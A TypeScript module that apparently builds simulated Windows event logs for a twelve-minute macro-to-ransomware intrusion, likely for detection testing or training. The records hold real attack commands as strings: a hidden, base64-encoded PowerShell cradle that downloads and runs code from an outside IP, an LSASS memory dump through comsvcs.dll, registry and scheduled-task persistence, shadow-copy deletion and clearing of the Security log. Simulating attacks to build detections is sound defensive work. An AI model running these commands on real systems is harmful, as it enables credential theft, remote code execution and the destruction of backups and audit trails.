import { company } from '../company.ts';
import type { Random } from '../random.ts';
import type { SimulatedRecord } from '../record.ts';
import { processStart, security, sysmon, system } from '../windows-record.ts';

const SYSTEM32 = 'C:\\Windows\\System32';
const POWERSHELL = `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`;

/** A macro starts PowerShell, which dumps credentials, stays and prepares to encrypt: twelve minutes on one workstation. */
export function macroToRansomware(random: Random, startMs: number): SimulatedRecord[] {
  const victim = company.people[2];
  const at = (minutes: number): number => startMs + Math.round(minutes * 60_000);
  const start = (minutes: number, image: string, commandLine: string, parentImage: string): SimulatedRecord =>
    processStart(random, at(minutes), victim, { image, commandLine, parentImage, integrity: 'High' });
  const encoded = Buffer.from(
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a')",
    'utf16le',
  ).toString('base64');
  const word = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
  return [
    start(0, POWERSHELL, `powershell.exe -NoP -W Hidden -Enc ${encoded}`, word),
    sysmon(random, at(0.2), victim, 3, 'Network connection detected', {
      Image: POWERSHELL,
      User: `${company.domain}\\${victim.user}`,
      Protocol: 'tcp',
      Initiated: 'true',
      SourceIp: victim.ip,
      SourcePort: '51544',
      DestinationIp: company.attackerIps[0],
      DestinationPort: '80',
    }),
    start(1.5, `${SYSTEM32}\\whoami.exe`, 'whoami /all', POWERSHELL),
    start(1.8, `${SYSTEM32}\\net.exe`, 'net group "Domain Admins" /domain', POWERSHELL),
    start(
      3,
      `${SYSTEM32}\\rundll32.exe`,
      `rundll32.exe ${SYSTEM32}\\comsvcs.dll, MiniDump 624 C:\\ProgramData\\d.dmp full`,
      POWERSHELL,
    ),
    sysmon(random, at(3.1), victim, 10, 'Process accessed', {
      SourceImage: `${SYSTEM32}\\rundll32.exe`,
      TargetImage: `${SYSTEM32}\\lsass.exe`,
      GrantedAccess: '0x1fffff',
      CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4e4|C:\\Windows\\System32\\dbgcore.DLL+6f25',
      SourceUser: `${company.domain}\\${victim.user}`,
      TargetUser: 'NT AUTHORITY\\SYSTEM',
    }),
    sysmon(random, at(4), victim, 13, 'Registry value set', {
      EventType: 'SetValue',
      Image: POWERSHELL,
      TargetObject: 'HKU\\S-1-5-21-1004\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveUpdater',
      Details: 'C:\\ProgramData\\upd.exe',
      User: `${company.domain}\\${victim.user}`,
    }),
    start(
      5,
      `${SYSTEM32}\\schtasks.exe`,
      'schtasks /create /tn Updater /tr C:\\ProgramData\\upd.exe /sc minute /ru SYSTEM',
      POWERSHELL,
    ),
    system(random, at(6), victim.workstation, 'Service Control Manager', 7045, {
      ServiceName: 'updsvc',
      ImagePath: '%COMSPEC% /c powershell.exe -enc SQBFAFgA',
      ServiceType: 'user mode service',
      StartType: 'demand start',
      AccountName: 'LocalSystem',
    }),
    start(10, `${SYSTEM32}\\vssadmin.exe`, 'vssadmin delete shadows /all /quiet', `${SYSTEM32}\\cmd.exe`),
    start(10.4, `${SYSTEM32}\\wevtutil.exe`, 'wevtutil cl Security', `${SYSTEM32}\\cmd.exe`),
    security(random, at(10.5), victim.workstation, 1102, {
      SubjectUserName: victim.user,
      SubjectDomainName: company.domain,
    }),
  ];
}
